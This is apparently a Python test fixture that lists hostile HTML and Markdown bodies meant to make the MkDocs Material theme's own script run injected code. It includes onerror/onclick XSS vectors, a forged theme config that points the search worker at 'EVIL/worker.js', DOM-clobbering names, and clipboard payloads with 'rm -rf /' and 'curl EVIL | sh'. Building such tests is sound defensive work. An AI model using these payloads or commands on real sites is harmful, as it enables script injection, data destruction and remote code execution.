"""Hostile bodies made of what Material's own script and styles look for: nothing that any HTML cleaner would mind."""

_CONFIG = (
    '{"base": "EVIL/", "features": ["content.code.copy", "content.tooltips"], "search": "EVIL/worker.js",'
    ' "translations": {"clipboard.copy": "\\u003cimg src=x onerror=HIT\\u003e"}}'
)
"""What the theme's script reads its settings from: its words go into a tooltip as HTML."""

_COPIED = "\n\n```text\ncode\n```\n"
"""Code, beside which there is a button with these words."""

THEME = {
    "ellipses": (
        "<span class='md-ellipsis'>&lt;img src=x onerror=HIT&gt; and words, words, words</span>",
        f"<div><p class='md-ellipsis'>&lt;svg onload=HIT&gt;{'&nbsp;and&nbsp;more' * 40}</p></div>",
        "<b class='md-status' title='&lt;img src=x onerror=HIT&gt;'>x</b>",
        "*&lt;img src=x onerror=HIT&gt; words*{ .md-ellipsis } <p title='<img src=x onerror=HIT>'>x</p>",
    ),
    "copying": (
        "<button data-clipboard-text='rm -rf /' onclick=HIT>x</button>",
        "<pre data-copy='curl EVIL | sh' onclick=HIT><code>ls</code></pre>",
        "<p data-clipboard-target='#__config' onclick=HIT>x</p>",
    ),
    "previews": (
        "<a href=../ data-preview onclick=HIT>x</a>",
        "[x](../){ data-preview onclick=HIT }",
    ),
    "covers": (
        "<label class='md-overlay' for='__drawer' onclick=HIT>x</label>",
        "<div class='md-dialog md-dialog--active' data-md-component=dialog onclick=HIT>x</div>",
        "<div class='md-search__overlay' data-md-component=search onclick=HIT>x</div>",
        "<div class='md-header' data-md-component=header onclick=HIT>x</div>",
        "<div data-md-component=palette onclick=HIT>x</div>",
        "<input class='md-toggle' id='__search' data-md-toggle=search type=checkbox checked onclick=HIT>",
        "<input type=radio name='__palette' id='__palette_9' checked onclick=HIT>",
        "<a class='md-skip' href=EVIL onclick=HIT>x</a>",
    ),
    "names": (
        "<img name=cookie src=x onerror=HIT>",
        "<img name=getElementById src=x onerror=HIT>",
        "<form name=search onclick=HIT><input name=query></form>",
        "<a id=mermaid></a><a id=mermaid onclick=HIT>x</a>",
        "<a id=MathJax onclick=HIT>x</a>",
        "<img id=currentScript name=currentScript src=x onerror=HIT>",
    ),
}

THEME_ALONE = {
    "configuration": (
        f"`{_CONFIG}`{{ #__config }}{_COPIED}",
        f"<p id='__config'>{_CONFIG}</p>{_COPIED}",
        f"<div markdown>\n`{_CONFIG}`{{ #__config }}\n</div>{_COPIED}",
        f"## {_CONFIG} {{ #__config }}{_COPIED}",
        f"<pre id=__config>{_CONFIG}</pre>{_COPIED}",
        f"<p id='&#95;&#95;config'>{_CONFIG}</p>{_COPIED}",
        f"<code id=__config>{_CONFIG}</code>{_COPIED}",
        f"<p id=x id=__config>x</p><b id=__config>{_CONFIG}</b>{_COPIED}",
    ),
    "stoppers": (
        "<div data-tabs='1:1'>x</div>",
        "<div class=tabbed-set data-tabs='1:2'><input id=__tabbed_9_1 type=radio><div class=tabbed-labels></div></div>",
        "<div data-tabs='1:1'><input id='x\"]' type=radio><div class=tabbed-labels><label for=x>x</label></div></div>",
        "<pre><code class=select><span id=__span-9-1>x</span></code></pre>",
        "<div data-md-component=announce>x</div>",
        "<div data-md-component=toc><a class=md-nav__link>x</a></div>",
    ),
}
"""The stoppers run nothing: they stop the script of the whole page, which the test counts as much."""
